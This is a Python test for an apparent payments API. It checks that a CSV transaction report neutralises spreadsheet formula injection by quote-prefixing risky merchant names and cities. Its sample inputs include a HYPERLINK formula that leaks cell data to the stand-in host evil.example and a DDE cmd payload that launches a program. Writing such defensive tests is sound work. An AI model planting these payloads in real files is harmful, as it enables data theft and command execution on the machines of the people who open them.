"""CSV formula injection (CWE-1236, issue 28 item 4): merchant names and cities come from
the network, and a spreadsheet runs a cell that begins with `=`, `+`, `-`, `@`, a tab or a
carriage return as a formula. The export prefixes such a text cell with a single quote, as
OWASP recommends; amounts are numbers and stay exactly as they are."""

from __future__ import annotations

import csv
import io

import httpx
from fastapi import FastAPI

from tests.factories import authorize, make_card, make_user

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)": "'@SUM(1+1)",
    "+1+1": "'+1+1",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\tTab Shop": "'\tTab Shop",
    "\rReturn Shop": "'\rReturn Shop",
    "Plain Shop = fine": "Plain Shop = fine",
}


async def test_formula_cells_are_neutralised_and_amounts_stay_numbers(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    user = await make_user(app)
    _account, card = await make_card(app, client, user)
    for name in HOSTILE:
        made = await authorize(client, user, card, "12.50", merchant_name=name, merchant_city=name)
        assert made.status_code == 201, made.text
    response = await client.get("/transaction/report.csv", headers=user.headers)
    assert response.status_code == 200
    rows = [r for r in csv.DictReader(io.StringIO(response.text, newline="")) if r["merchant_name"]]
    purchases = [r for r in rows if r["type"] == "card_purchase"]
    assert sorted(r["merchant_name"] for r in purchases) == sorted(HOSTILE.values())
    assert sorted(r["merchant_city"] for r in purchases) == sorted(HOSTILE.values())
    assert {r["amount"] for r in purchases} == {"12.50"}
    for row in rows:
        for column in ("amount", "fee", "refunded_amount"):
            assert not row[column].startswith("'"), row
    for row in csv.DictReader(io.StringIO(response.text, newline="")):
        risky = [v for v in row.values() if v and v[0] in "=+-@\t\r"]
        assert risky == [] or all(_number(v) for v in risky), row


def _number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True
